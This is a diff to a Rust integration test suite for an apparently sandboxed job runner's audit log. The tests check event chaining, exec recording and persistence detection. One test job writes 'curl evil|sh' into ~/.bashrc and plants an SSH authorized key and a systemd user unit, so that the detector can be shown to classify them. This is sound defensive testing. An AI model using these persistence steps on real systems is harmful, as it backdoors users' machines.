@@ -56,7 +56,8 @@ fn jobs_are_recorded_and_tampering_is_detected() {
         .args(["audit", "show", "--kind", "job"])
         .output()
         .expect("show");
-    assert_eq!(stdout(&o).lines().count(), 2, "{}", stdout(&o));
+    // requested, started, ended
+    assert_eq!(stdout(&o).lines().count(), 3, "{}", stdout(&o));
 
     // Edit one record: verify fails and says where.
     let tampered = raw.replacen("job.requested", "job.requestec", 1);
@@ -89,5 +90,146 @@ fn no_job_starts_when_the_audit_log_cannot_be_written() {
         "{}",
         stderr(&o)
     );
+    w.assert_clean();
+}
+
+#[test]
+fn concurrent_jobs_share_one_unbroken_chain() {
+    need_root!();
+    let w = World::new();
+    let kids: Vec<_> = (0..4)
+        .map(|i| {
+            let mut c = w.cmd();
+            c.args(["run", "-q", "--", "/bin/sh", "-c"])
+                .arg(format!("exit {i}"))
+                .stdout(std::process::Stdio::null())
+                .stderr(std::process::Stdio::piped());
+            c.spawn().expect("spawn")
+        })
+        .collect();
+    for (i, k) in kids.into_iter().enumerate() {
+        let o = k.wait_with_output().expect("wait");
+        assert_eq!(o.status.code(), Some(i as i32), "{}", stderr(&o));
+    }
+    let o = w.cmd().args(["audit", "verify"]).output().expect("verify");
+    assert!(o.status.success(), "{}", stdout(&o));
+    let o = w
+        .cmd()
+        .args(["audit", "show", "--kind", "job.ended"])
+        .output()
+        .expect("show");
+    assert_eq!(stdout(&o).lines().count(), 4, "{}", stdout(&o));
+    w.assert_clean();
+}
+
+fn records(w: &World, kind: &str) -> Vec<serde_json::Value> {
+    let o = w
+        .cmd()
+        .args(["audit", "show", "--json", "--kind", kind])
+        .output()
+        .expect("show");
+    stdout(&o)
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("json"))
+        .collect()
+}
+
+#[test]
+fn every_exec_is_recorded_even_short_lived_ones() {
+    need_root!();
+    let w = World::new();
+    for policy in ["", "executor = \"runc\"\n"] {
+        let p = w.policy(&format!("version = 1\n[groups.default]\n{policy}"));
+        let before = records(&w, "process.exec").len();
+        let o = w
+            .cmd()
+            .args(["run", "-q", "-p"])
+            .arg(&p)
+            .args([
+                "--",
+                "/bin/sh",
+                "-c",
+                "cd /tmp && for i in $(seq 1000); do /bin/true; done; unshare -U true; exit 0",
+            ])
+            .output()
+            .expect("run");
+        assert!(o.status.success(), "{}", stderr(&o));
+        let execs = records(&w, "process.exec");
+        let mine = &execs[before..];
+        let trues: Vec<_> = mine
+            .iter()
+            .filter(|r| r["data"]["path"] == "/bin/true")
+            .collect();
+        assert_eq!(
+            trues.len(),
+            1000,
+            "{policy}: every /bin/true is on the record"
+        );
+        let t = trues[0];
+        assert_eq!(t["data"]["argv"], serde_json::json!(["/bin/true"]));
+        assert_eq!(t["data"]["uid"], 1001);
+        assert_eq!(t["data"]["cwd"], "/tmp");
+        let sh = &mine[0];
+        assert_eq!(sh["data"]["path"], "/bin/sh", "the job's own command first");
+        assert_eq!(t["data"]["ppid"], sh["data"]["pid"], "parent attribution");
+        assert!(mine
+            .iter()
+            .any(|r| r["data"]["argv"] == serde_json::json!(["unshare", "-U", "true"])));
+        let denied = records(&w, "syscall.denied");
+        assert!(
+            denied
+                .iter()
+                .any(|r| r["data"]["syscall"] == "unshare" && r["job"] == sh["job"]),
+            "{policy}: the denied unshare is on the record: {denied:?}"
+        );
+    }
+    let o = w.cmd().args(["audit", "verify"]).output().expect("verify");
+    assert!(o.status.success(), "{}", stdout(&o));
+    w.assert_clean();
+}
+
+#[test]
+fn what_the_job_leaves_on_disk_is_recorded_and_persistence_classified() {
+    need_root!();
+    let w = World::new();
+    let o = w
+        .cmd()
+        .args([
+            "run",
+            "-q",
+            "--",
+            "/bin/sh",
+            "-c",
+            "echo 'curl evil|sh' >> ~/.bashrc; mkdir -p ~/.ssh ~/.config/systemd/user; \
+             echo key > ~/.ssh/authorized_keys; echo x > ~/.config/systemd/user/x.service; \
+             echo out > build.txt",
+        ])
+        .output()
+        .expect("run");
+    assert!(o.status.success(), "{}", stderr(&o));
+    let files = records(&w, "file.changed");
+    let find = |p: &str| {
+        files
+            .iter()
+            .find(|r| r["data"]["path"] == p)
+            .unwrap_or_else(|| panic!("{p} not on the record: {files:?}"))
+    };
+    assert_eq!(
+        find("/home/runner/.bashrc")["data"]["persistence"],
+        "shell-rc"
+    );
+    assert_eq!(
+        find("/home/runner/.ssh/authorized_keys")["data"]["persistence"],
+        "authorized-keys"
+    );
+    assert_eq!(
+        find("/home/runner/.config/systemd/user/x.service")["data"]["persistence"],
+        "systemd-unit"
+    );
+    let build = find("/home/runner/work/build.txt");
+    assert_eq!(build["data"]["change"], "created");
+    assert!(build["data"].get("persistence").is_none());
+    let scan = records(&w, "file.scan");
+    assert_eq!(scan.len(), 1);
     w.assert_clean();
 }
